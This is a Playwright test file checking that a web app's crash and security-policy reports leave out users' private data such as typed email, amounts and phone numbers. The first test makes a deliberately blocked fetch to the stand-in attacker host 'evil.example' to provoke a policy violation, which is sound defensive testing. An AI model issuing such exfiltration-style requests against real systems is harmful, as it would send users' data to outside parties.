import type { APIRequestContext, Page } from '@playwright/test';
import { configurePage } from '../fixtures/configure-page.ts';
import { ADA, signInHere } from '../fixtures/sign-in.ts';
import { expect, test } from '../fixtures/test.ts';

const REPORT_URL = '/mock/v1/reports';
const PHONE_NOTATION = 'getUser:data.phoneNumber:notation';

async function openReporting(page: Page): Promise<void> {
  await configurePage(page, { reportUrl: REPORT_URL });
  await page.goto('/login?token=secret');
  await expect(page.locator('#skeleton')).toHaveCount(0);
}

/** The number of earlier reports, which a reset keeps. */
let earlier = 0;

test.beforeEach(async ({ request }) => {
  earlier = (await received(request)).length;
});

async function received(request: APIRequestContext): Promise<object[]> {
  const answer = await request.get(REPORT_URL);
  const { data } = (await answer.json()) as { data: object[] };
  return data;
}

async function reportsAt(page: Page): Promise<string> {
  const all = await received(page.request);
  return JSON.stringify(all.slice(0, all.length - earlier));
}

test('reports: crashes and forbidden calls without typed text', async ({ page, problems }) => {
  problems.allow(/private|policy|evil\.example|ERR_BLOCKED/i);
  await openReporting(page);
  await page.getByLabel('Email', { exact: true }).fill('private@amana.test');

  await page.evaluate(async () => {
    const happened = ['error', 'securitypolicyviolation'].map(
      (type) => new Promise((resolve) => addEventListener(type, resolve, { once: true })),
    );
    setTimeout(() => {
      throw new TypeError('private text');
    });
    fetch('https://evil.example/private').catch(() => null);
    await Promise.all(happened);
  });

  for (const code of ['connect-src:evil.example', 'TypeError'])
    await expect.poll(() => reportsAt(page)).toContain(`"${code}`);
  const reports = await reportsAt(page);
  expect(reports).toContain('"/login"');
  expect(reports).not.toMatch(/private|secret/);
});

test("reports: a deviation of the API is listed without the field's value", async ({ page, control }) => {
  await openReporting(page);
  await control.deviate(['international-phone-numbers']);
  await signInHere(page, ADA);
  await expect(page.getByText('Buying Account')).toBeVisible();
  const amount = await page
    .getByRole('main')
    .getByText(/^₦[\d,]+\.\d\d$/)
    .first()
    .innerText();

  await expect.poll(() => reportsAt(page)).toContain(PHONE_NOTATION);
  await page.goto('/mock/reports');
  const row = page.getByRole('row').filter({ hasText: PHONE_NOTATION }).first();
  await expect(row).toContainText('deviation');
  const reports = await reportsAt(page);
  const digits = amount.replaceAll(/\D/g, '').slice(0, -2);
  for (const text of [digits, ADA.email, 'Ada', '+234']) expect(reports).not.toContain(text);
});
